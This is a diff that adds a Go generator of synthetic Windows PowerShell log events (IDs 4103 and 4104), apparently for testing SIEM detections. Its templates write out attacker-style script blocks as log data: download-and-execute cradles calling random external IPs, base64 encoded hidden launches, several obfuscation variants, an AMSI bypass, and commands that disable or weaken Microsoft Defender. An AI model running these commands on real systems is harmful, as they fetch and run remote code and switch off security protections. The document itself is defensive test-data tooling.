@@ -0,0 +1,320 @@
+package generators
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"fmt"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	"github.com/google/uuid"
+
+	"siem-event-generator/models"
+)
+
+// WindowsPowerShellGenerator generates PowerShell Operational log events
+type WindowsPowerShellGenerator struct {
+	BaseGenerator
+}
+
+func init() {
+	Register(&WindowsPowerShellGenerator{})
+}
+
+// GetEventType returns the event type for Windows PowerShell
+func (g *WindowsPowerShellGenerator) GetEventType() models.EventType {
+	return models.EventType{
+		ID:          "windows_powershell",
+		Name:        "Windows PowerShell",
+		Category:    "windows",
+		Description: "PowerShell Operational module (4103) and script block (4104) logging, including encoded and obfuscated commands",
+		EventIDs:    []string{"4103", "4104"},
+	}
+}
+
+// GetTemplates returns available templates for PowerShell events
+func (g *WindowsPowerShellGenerator) GetTemplates() []models.EventTemplate {
+	return []models.EventTemplate{
+		{
+			ID:          "4103",
+			Name:        "Module Logging",
+			Category:    "windows_powershell",
+			EventID:     "4103",
+			Format:      "xml",
+			Description: "Pipeline execution details with command invocation and parameter binding",
+		},
+		{
+			ID:          "4104",
+			Name:        "Script Block Logging",
+			Category:    "windows_powershell",
+			EventID:     "4104",
+			Format:      "xml",
+			Description: "Routine administrative script block",
+		},
+		{
+			ID:          "4104_encoded",
+			Name:        "Encoded Command Script Block",
+			Category:    "windows_powershell",
+			EventID:     "4104",
+			Format:      "xml",
+			Description: "Script block decoding a base64 payload and running a download cradle",
+		},
+		{
+			ID:          "4104_obfuscated",
+			Name:        "Obfuscated Script Block",
+			Category:    "windows_powershell",
+			EventID:     "4104",
+			Format:      "xml",
+			Description: "Obfuscated script block (tick marks, format strings, char arrays, AMSI bypass)",
+		},
+	}
+}
+
+// Generate creates a PowerShell event
+func (g *WindowsPowerShellGenerator) Generate(templateID string, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	switch templateID {
+	case "4103":
+		return g.generate4103(overrides)
+	case "4104":
+		return g.generate4104(g.RandomChoice(benignScriptBlocks), 5, overrides)
+	case "4104_encoded":
+		return g.generate4104(g.encodedScriptBlock(), 3, overrides)
+	case "4104_obfuscated":
+		return g.generate4104(g.obfuscatedScriptBlock(), 3, overrides)
+	default:
+		return nil, fmt.Errorf("unknown template ID: %s", templateID)
+	}
+}
+
+var benignScriptBlocks = []string{
+	"Get-ChildItem -Path C:\\Logs -Filter *.log -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -Force",
+	"Import-Module ActiveDirectory\r\nGet-ADUser -Filter {Enabled -eq $false} -Properties LastLogonDate | Select-Object Name, SamAccountName, LastLogonDate | Export-Csv -Path C:\\Reports\\disabled-users.csv -NoTypeInformation",
+	"$svc = Get-Service -Name 'Spooler'\r\nif ($svc.Status -ne 'Running') {\r\n    Start-Service -Name 'Spooler'\r\n    Write-EventLog -LogName Application -Source 'Maintenance' -EventId 1000 -Message 'Restarted Spooler'\r\n}",
+	"Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\" | Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,2)}}",
+	"Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 10",
+	"Test-NetConnection -ComputerName fileserver01 -Port 445 -InformationLevel Quiet",
+	"{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
+}
+
+// encodePowerShell encodes a command the way -EncodedCommand expects:
+// base64 of its UTF-16LE bytes
+func encodePowerShell(command string) string {
+	units := utf16.Encode([]rune(command))
+	buf := make([]byte, len(units)*2)
+	for i, u := range units {
+		binary.LittleEndian.PutUint16(buf[i*2:], u)
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}
+
+// downloadURL returns a staging URL for a second-stage payload
+func (g *WindowsPowerShellGenerator) downloadURL() string {
+	return fmt.Sprintf("http://%s/%s", g.RandomIPv4External(), g.RandomChoice([]string{"a.ps1", "update.ps1", "stager", "news.php", "ld.txt"}))
+}
+
+// encodedScriptBlock returns a script block that decodes and runs a base64
+// download cradle
+func (g *WindowsPowerShellGenerator) encodedScriptBlock() string {
+	cradle := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('%s')", g.downloadURL())
+	encoded := encodePowerShell(cradle)
+
+	switch g.RandomInt(0, 2) {
+	case 0:
+		return fmt.Sprintf("$s=[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('%s'));IEX $s", encoded)
+	case 1:
+		return fmt.Sprintf("Start-Process -WindowStyle Hidden -FilePath powershell.exe -ArgumentList '-NoP -NonI -W Hidden -Exec Bypass -Enc %s'", encoded)
+	default:
+		// The decoded script block PowerShell logs for -EncodedCommand
+		return cradle
+	}
+}
+
+// obfuscatedScriptBlock returns a script block using one of the common
+// Invoke-Obfuscation techniques
+func (g *WindowsPowerShellGenerator) obfuscatedScriptBlock() string {
+	url := g.downloadURL()
+
+	switch g.RandomInt(0, 4) {
+	case 0:
+		return fmt.Sprintf("I`E`X (n`ew-obj`ect N`et.W`ebC`lient).('Down'+'loadStr'+'ing').Invoke('%s')", url)
+	case 1:
+		return fmt.Sprintf(". (\"{1}{0}\" -f 'X','IE') ((New-Object (\"{1}{0}{2}\" -f 'et.WebCl','N','ient')).(\"{0}{1}\" -f 'Download','String').Invoke('%s'))", url)
+	case 2:
+		return fmt.Sprintf("&([string]::join('', ( (73,69,88) |%%{ ( [char][int] $_)}))) ((New-Object Net.WebClient).DownloadString('%s'))", url)
+	case 3:
+		return fmt.Sprintf("[Ref].Assembly.GetType('System.Management.Automation.'+$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))).GetField($([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s'))),'NonPublic,Static').SetValue($null,$true)",
+			encodePowerShell("AmsiUtils"), encodePowerShell("amsiInitFailed"))
+	default:
+		reversed := []rune(fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('%s')", url))
+		for i, j := 0, len(reversed)-1; i < j; i, j = i+1, j-1 {
+			reversed[i], reversed[j] = reversed[j], reversed[i]
+		}
+		return fmt.Sprintf("$c = '%s'; $c[-1..-($c.Length)] -join '' | & ($env:ComSpec[4,15,25]-join'')", string(reversed))
+	}
+}
+
+// powerShellCommand is a cmdlet invocation recorded by module logging
+type powerShellCommand struct {
+	name       string
+	parameters [][2]string
+}
+
+// randomCommand picks a module-logged command, mostly routine administration
+// with the occasional download or Defender tampering
+func (g *WindowsPowerShellGenerator) randomCommand(user string) powerShellCommand {
+	switch g.WeightedChoice([]string{"service", "aduser", "download", "exclusion", "realtime"}, []float64{35, 30, 15, 12, 8}) {
+	case "service":
+		return powerShellCommand{"Get-Service", [][2]string{{"Name", g.RandomChoice([]string{"Spooler", "wuauserv", "W32Time", "BITS"})}}}
+	case "aduser":
+		return powerShellCommand{"Get-ADUser", [][2]string{{"Filter", "Enabled -eq $false"}, {"Properties", "LastLogonDate"}}}
+	case "download":
+		return powerShellCommand{"Invoke-WebRequest", [][2]string{
+			{"Uri", g.downloadURL()},
+			{"OutFile", fmt.Sprintf("C:\\Users\\%s\\AppData\\Local\\Temp\\%s.exe", user, g.RandomString(8))},
+			{"UseBasicParsing", "True"},
+		}}
+	case "exclusion":
+		return powerShellCommand{"Add-MpPreference", [][2]string{{"ExclusionPath", "C:\\ProgramData"}}}
+	default:
+		return powerShellCommand{"Set-MpPreference", [][2]string{{"DisableRealtimeMonitoring", "True"}}}
+	}
+}
+
+// generate4103 creates a module logging (pipeline execution) event
+func (g *WindowsPowerShellGenerator) generate4103(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	domain := g.RandomDomain()
+	user := g.RandomUsername()
+	cmd := g.randomCommand(user)
+
+	hostApplication := "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+	if cmd.name == "Invoke-WebRequest" || strings.HasSuffix(cmd.name, "MpPreference") {
+		var args []string
+		for _, p := range cmd.parameters {
+			args = append(args, fmt.Sprintf("-%s '%s'", p[0], p[1]))
+		}
+		hostApplication += " -nop -w hidden -enc " + encodePowerShell(cmd.name+" "+strings.Join(args, " "))
+	}
+
+	contextInfo := strings.Join([]string{
+		"        Severity = Informational",
+		"        Host Name = ConsoleHost",
+		"        Host Version = 5.1.19041.3570",
+		"        Host ID = " + g.RandomGUID(),
+		"        Host Application = " + hostApplication,
+		"        Engine Version = 5.1.19041.3570",
+		"        Runspace ID = " + g.RandomGUID(),
+		"        Pipeline ID = " + fmt.Sprint(g.RandomInt(1, 40)),
+		"        Command Name = " + cmd.name,
+		"        Command Type = Cmdlet",
+		"        Script Name = ",
+		"        Command Path = ",
+		"        Sequence Number = " + fmt.Sprint(g.RandomInt(10, 500)),
+		"        User = " + domain + "\\" + user,
+		"        Connected User = ",
+		"        Shell ID = Microsoft.PowerShell",
+	}, "\r\n")
+
+	payload := []string{fmt.Sprintf("CommandInvocation(%s): \"%s\"", cmd.name, cmd.name)}
+	for _, p := range cmd.parameters {
+		payload = append(payload, fmt.Sprintf("ParameterBinding(%s): name=\"%s\"; value=\"%s\"", cmd.name, p[0], p[1]))
+	}
+
+	fields := map[string]interface{}{
+		"ContextInfo": contextInfo,
+		"UserData":    "",
+		"Payload":     strings.Join(payload, "\r\n"),
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	event := g.buildEvent(4103, 4, 106, 20, now, fields)
+	rawEvent, err := marshalRawXML(event)
+	if err != nil {
+		return nil, err
+	}
+
+	return &models.GeneratedEvent{
+		ID:         uuid.New().String(),
+		Type:       "windows_powershell",
+		EventID:    "4103",
+		Timestamp:  now,
+		RawEvent:   string(rawEvent),
+		Fields:     fields,
+		Sourcetype: "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
+	}, nil
+}
+
+// generate4104 creates a script block logging event. PowerShell logs script
+// blocks with suspicious content at warning level even without script block
+// logging enabled.
+func (g *WindowsPowerShellGenerator) generate4104(script string, level int, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+
+	path := ""
+	if level == 5 && g.RandomInt(0, 1) == 1 {
+		path = fmt.Sprintf("C:\\Scripts\\%s.ps1", g.RandomChoice([]string{"Cleanup-Logs", "Get-DiskReport", "Sync-Users", "Check-Services"}))
+	}
+
+	fields := map[string]interface{}{
+		"MessageNumber":   1,
+		"MessageTotal":    1,
+		"ScriptBlockText": script,
+		"ScriptBlockId":   g.RandomGUID(),
+		"Path":            path,
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	event := g.buildEvent(4104, level, 2, 15, now, fields)
+	rawEvent, err := marshalRawXML(event)
+	if err != nil {
+		return nil, err
+	}
+
+	return &models.GeneratedEvent{
+		ID:         uuid.New().String(),
+		Type:       "windows_powershell",
+		EventID:    "4104",
+		Timestamp:  now,
+		RawEvent:   string(rawEvent),
+		Fields:     fields,
+		Sourcetype: "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
+	}, nil
+}
+
+// buildEvent creates the common PowerShell Operational Event structure
+func (g *WindowsPowerShellGenerator) buildEvent(eventID, level, task, opcode int, timestamp time.Time, fields map[string]interface{}) WindowsEvent {
+	dataItems := make([]WindowsDataItem, 0)
+	for name, value := range fields {
+		dataItems = append(dataItems, WindowsDataItem{
+			Name:  name,
+			Value: fmt.Sprintf("%v", value),
+		})
+	}
+
+	return WindowsEvent{
+		Xmlns: "http://schemas.microsoft.com/win/2004/08/events/event",
+		System: WindowsEventSystem{
+			Provider: WindowsEventProvider{
+				Name: "Microsoft-Windows-PowerShell",
+				Guid: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
+			},
+			EventID:       eventID,
+			Version:       1,
+			Level:         level,
+			Task:          task,
+			Opcode:        opcode,
+			Keywords:      "0x0",
+			TimeCreated:   WindowsTimeCreated{SystemTime: timestamp.Format("2006-01-02T15:04:05.000000000Z")},
+			EventRecordID: int64(g.RandomInt(100000, 99999999)),
+			Correlation:   fmt.Sprintf("{%s}", strings.ToUpper(g.RandomGUID())),
+			Execution:     WindowsExecution{ProcessID: g.RandomInt(1000, 65535), ThreadID: g.RandomInt(100, 10000)},
+			Channel:       "Microsoft-Windows-PowerShell/Operational",
+			Computer:      g.RandomFQDN(),
+			Security:      WindowsSecurity{UserID: g.RandomSID()},
+		},
+		EventData: WindowsEventData{Data: dataItems},
+	}
+}